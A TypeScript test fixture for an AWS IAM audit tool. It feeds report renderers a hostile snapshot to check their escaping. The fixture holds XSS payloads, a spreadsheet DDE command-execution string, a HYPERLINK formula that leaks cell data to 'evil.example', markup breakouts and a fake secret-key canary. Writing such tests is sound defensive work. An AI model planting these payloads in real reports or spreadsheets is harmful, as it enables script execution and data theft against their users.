// Audits the report tests render: the two example snapshots, and a hostile one whose strings try to break out of
// every format (markup, quotes, formulas, newlines, control characters) and carry a canary the contract drops.
import { join } from 'node:path';
import { auditSnapshot } from '../../src/audit.js';
import type { CheckResult } from '../../src/checks/types.js';
import { loadSnapshot } from '../../src/inventory/load.js';
import type { AuditOutput } from '../../src/report/audit-output.js';
import { renderJson } from '../../src/report/json.js';
import { EXAMPLES, type Example } from '../examples.js';

export { EXAMPLES };

export async function exampleAudit(example: Example): Promise<AuditOutput> {
  const snapshot = await loadSnapshot(join(import.meta.dirname, '../../examples', `${example}.json`));
  return renderJson({ snapshot, results: auditSnapshot(snapshot) });
}

/** Looks like an AWS secret key; only ever present in a field the JSON contract does not have. */
export const CANARY = 'CANARYsecretKEYwJalrXUtnFEMIK7MDENGbPxRfiCY';
export const HOSTILE_USER = '<script>alert(1)</script>"\',=cmd|\' /C calc\'!A0';

export function hostileAudit(): AuditOutput {
  const base = { severity: 'high', area: 'identity', remediation: { summary: 'Fix <b>it</b> & "quote"', console: ['Click <img src=x onerror=alert(1)>'], cli: ['aws iam delete-user --user-name "a,b"'] } } as const;
  const results = [
    { ...base, checkId: 'user-console-mfa', status: 'FAIL', resource: `arn:aws:iam::123456789012:user/${HOSTILE_USER}`, message: `user ${HOSTILE_USER} has no MFA\nsecond line, with "quotes"` },
    { ...base, checkId: 'user-console-mfa', status: 'FAIL', resource: '=HYPERLINK("http://evil.example/?x="&A1)', message: '+1 @SUM(A1) -2' },
    { ...base, checkId: 'access-key-unused', status: 'UNKNOWN', resource: 'arn:aws:iam::123456789012:user/bell\u0007&amp;', message: 'control \u0001 character </td></tr></table>' },
    { ...base, checkId: 'root-mfa', area: 'root', severity: 'critical', status: 'FAIL', resource: 'arn:aws:iam::123456789012:root', message: 'root has no MFA' },
    { ...base, checkId: 'not-a-check-yet', status: 'MANUAL', resource: 'arn:aws:::123456789012', message: 'a person must look ]]> <!--' },
  ].map((r) => ({ ...r, remediation: { summary: r.remediation.summary, console: [...r.remediation.console], cli: [...r.remediation.cli] }, secretAccessKey: CANARY })) as unknown as CheckResult[];
  return renderJson({ account: { id: '123456789012', partition: 'aws', alias: '<b>alias</b>' }, collectedAt: '2026-06-15T12:00:00.000Z', results });
}
